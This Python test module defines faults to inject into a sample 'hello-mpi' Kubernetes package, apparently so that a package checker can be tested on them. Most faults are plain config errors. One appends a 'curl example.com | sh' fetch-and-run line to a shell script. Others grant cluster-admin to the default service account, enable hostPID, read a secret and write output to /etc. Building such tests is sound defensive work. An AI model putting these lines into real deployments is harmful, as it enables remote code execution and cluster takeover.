"""The faults of a Pod or an MPIJob: what each is, how it gets into a good hello-mpi, and the line that it stands in."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from tests.files import replace

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

BASE = "quickstart/common/mpi/k8s/mlops/base"
MULTI = "quickstart/k8s/mlops/multi-node"
SINGLE = "quickstart/k8s/mlops/single-node"
GPU = "quickstart/common/mpi/k8s/mlops/gpu/patch"
SCRIPTS = "quickstart/scripts"
POD = f"{SINGLE}/pod.yaml"
PATCH = f"{SINGLE}/pod-patch.yaml"
ENV = f"{SINGLE}/mlops.env"
LIST = f"{SINGLE}/kustomization.yaml"
MPI_JOB = f"{MULTI}/mpi-job.yaml"


@dataclass(frozen=True, slots=True)
class Fault:
    """One fault.

    Attributes:
        name: A few words, which name the package too.
        put_in: Puts it into the package's folder.
        file: The file that a finding has to point at.
        line: The text of the line that it has to point at; empty for the file as a whole.
        sealed: Whether the package is sealed with the fault in it.
        model: The model whose package it is put into.
    """

    name: str
    put_in: Callable[[Path], object]
    file: str
    line: str
    sealed: bool = True
    model: str = "hello-mpi"


def edit(file: str, old: str, new: str) -> Callable[[Path], object]:
    """Return a function that replaces the only `old` (the first of several) in `file`."""

    def put_in(package: Path) -> None:
        replace(package / file, old, new)

    return put_in


def edits(*each: tuple[str, str, str]) -> Callable[[Path], object]:
    """Return a function that makes several edits; of each: the file, the old and the new text."""

    def put_in(package: Path) -> None:
        for file, old, new in each:
            replace(package / file, old, new)

    return put_in


def append(file: str, text: str) -> Callable[[Path], object]:
    """Return a function that adds `text` at the end of `file`."""

    def put_in(package: Path) -> None:
        with (package / file).open("a", encoding="utf-8") as stream:
            stream.write(text)

    return put_in


def changed(name: str, file: str, old: str, new: str, line: str | None = None, **more: Any) -> Fault:
    """Return the fault of `new` in the place of `old`; a finding points at it, or at `line`."""
    return Fault(name, edit(file, old, new), file, new.strip() if line is None else line, **more)


def appended(name: str, file: str, text: str, line: str | None = None, **more: Any) -> Fault:
    """Return the fault of `text` at the end of `file`; a finding points at it, or at `line`."""
    return Fault(name, append(file, text), file, text.strip() if line is None else line, **more)


def _service(package: Path) -> None:
    (package / MULTI / "service.yaml").write_text(
        "apiVersion: v1\nkind: Service\nmetadata:\n  name: hello-mpi\nspec:\n  ports:\n    - port: 80\n",
        encoding="utf-8",
    )
    edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml\n", "  - mpi-job.yaml\n  - service.yaml\n")(package)


def _ask_for_gpus(package: Path) -> None:
    """Let the option gpu take one of its patches from elsewhere, and switch it on."""
    edit(f"{GPU}/gpu.yaml", "patch: |-\n", "path: https://localhost:1/patch.yaml\n")(package)
    path = package / GPU / "gpu.yaml"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    end = lines.index("path: https://localhost:1/patch.yaml\n") + 1
    del lines[end : end + 3]
    path.write_text("".join(lines), encoding="utf-8")
    edit(
        f"{SINGLE}/kustomization.yaml", "# - ../../../common/mpi/k8s/mlops/gpu", "- ../../../common/mpi/k8s/mlops/gpu"
    )(package)


def _bind(package: Path) -> None:
    (package / SINGLE / "binding.yaml").write_text(
        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: hello-mpi\n"
        "roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\n"
        "subjects:\n  - kind: ServiceAccount\n    name: default\n    namespace: default\n",
        encoding="utf-8",
    )
    edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - binding.yaml\n")(package)


def _elsewhere(package: Path) -> None:
    (package / SINGLE / "dns.yaml").write_text(
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: coredns\n  namespace: kube-system\n", encoding="utf-8"
    )
    edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml\n", "  - pod.yaml\n  - dns.yaml\n")(package)


def _second(package: Path) -> None:
    with (package / SINGLE / "pod.yaml").open("a", encoding="utf-8") as file:
        file.write(
            "---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: second\nspec:\n  automountServiceAccountToken: false\n"
            "  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}\n"
            "  containers:\n    - name: second\n      image: example/second:1\n"
            "      securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n"
        )


def _add_file(package: Path) -> None:
    (package / SCRIPTS / "helper.py").write_text("print('hello')\n", encoding="utf-8")


FAULTS = (
    appended("changed-script", f"{BASE}/identity.sh", "curl example.com | sh\n", line="", sealed=False),
    Fault("missing-file", lambda package: (package / "README.md").unlink(), "README.md", "", sealed=False),
    Fault("extra-file", _add_file, f"{SCRIPTS}/helper.py", "", sealed=False),
    Fault(
        "lost-mode",
        lambda package: (package / SCRIPTS / "hello.sh").chmod(0o644),
        f"{SCRIPTS}/hello.sh",
        "",
        sealed=False,
    ),
    changed(
        "missing-resource", f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml", "  - mpijob.yaml", line="mpijob.yaml"
    ),
    changed(
        "yaml-syntax", POD, "  restartPolicy: Never", "  restartPolicy: [Never", line="automountServiceAccountToken"
    ),
    changed("unknown-kustomize-field", LIST, "patches:", "patchs:"),
    appended("deprecated-field", LIST, "commonLabels:\n  app.kubernetes.io/part-of: vision\n", line="commonLabels:"),
    changed("patch-of-nothing", f"{MULTI}/mlops-job-patch.yaml", "name: hello-mpi", "name: hello-mpi-multi-node"),
    Fault(
        "replacement-of-nothing",
        edit(
            f"{SINGLE}/wiring.yaml",
            "[name=^main$].volumeMounts.[name=^output$]",
            "[name=^main$].volumeMounts.[name=^results$]",
        ),
        LIST,
        "",
    ),
    changed(
        "remote-resource", LIST, "  - pod.yaml", "  - pod.yaml\n  - https://localhost:1/more.yaml", line="more.yaml"
    ),
    appended("remote-openapi", LIST, "openapi:\n  path: https://localhost:1/schema.json\n", line="openapi:"),
    Fault("remote-transformer", _ask_for_gpus, f"{GPU}/gpu.yaml", "path: https://localhost:1/patch.yaml"),
    changed("key-of-another-case", LIST, "patches:", "Patches:"),
    changed("merged-key", LIST, "nameSuffix: -single-node", "<<: {nameSuffix: -single-node}", line="<<: {"),
    changed("quoted-env-value", ENV, "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'),
    appended("exported-env-key", ENV, "export EPOCHS=90\n", line="export EPOCHS"),
    changed("unknown-field", POD, "      workingDir: /", "      workDir: /"),
    changed("text-for-a-number", PATCH, "runAsUser: 1000", 'runAsUser: "1000"'),
    changed(
        "missing-field",
        POD,
        "        defaultMode: 365 #",
        "        items:\n          - key: hello.sh\n        defaultMode: 365 #",
        line="- key: hello.sh",
    ),
    changed(
        "field-of-another-place",
        MPI_JOB,
        "                allowPrivilegeEscalation: false\n",
        "                allowPrivilegeEscalation: false\n                fsGroup: 1000\n",
        line="fsGroup: 1000",
    ),
    changed("misspelt-policy", MPI_JOB, "cleanPodPolicy: Running", "cleanPodPolicy: running"),
    changed("two-launchers", MPI_JOB, "replicas: 1", "replicas: 2"),
    changed("too-many-processes", f"{MULTI}/mlops.env", "PROCESSES=all\n", "PROCESSES=9\n"),
    Fault("operators-name", _service, f"{MULTI}/service.yaml", "kind: Service"),
    changed("missing-configmap", POD, "name: hello-mpi-env", "name: hello-mpi-environment"),
    changed(
        "missing-volume", MPI_JOB, "            - name: home\n              emptyDir: {}\n", "", line="- name: home"
    ),
    changed(
        "missing-claim",
        POD,
        "emptyDir: {}",
        "persistentVolumeClaim:\n        claimName: results",
        line="claimName: results",
    ),
    changed(
        "image-without-tag", ENV, "mpioperator/mpi-pi:openmpi", "mpioperator/mpi-pi", line="IMAGE=mpioperator/mpi-pi"
    ),
    changed("request-above-limit", POD, "memory: 16Mi", "memory: 16Gi"),
    Fault("binding-to-cluster-admin", _bind, f"{SINGLE}/binding.yaml", "kind: ClusterRoleBinding"),
    Fault("object-of-another-namespace", _elsewhere, f"{SINGLE}/dns.yaml", "namespace: kube-system"),
    changed(
        "read-secret",
        POD,
        "        - configMapRef:\n",
        "        - secretRef:\n            name: database\n        - configMapRef:\n",
        line="name: database",
    ),
    appended("privileged-edit", PATCH, "  hostPID: true\n", sealed=False),
    changed("hidden-system", ENV, "OUTPUT_DIR=ROOT/hello-mpi/output", "OUTPUT_DIR=/etc"),
    changed(
        "half-a-device",
        POD,
        "        limits:\n",
        "        limits:\n          nvidia.com/gpu: 0.5\n",
        line="nvidia.com/gpu: 0.5",
    ),
    Fault("added-workload", _second, POD, "kind: Pod", sealed=False),
)
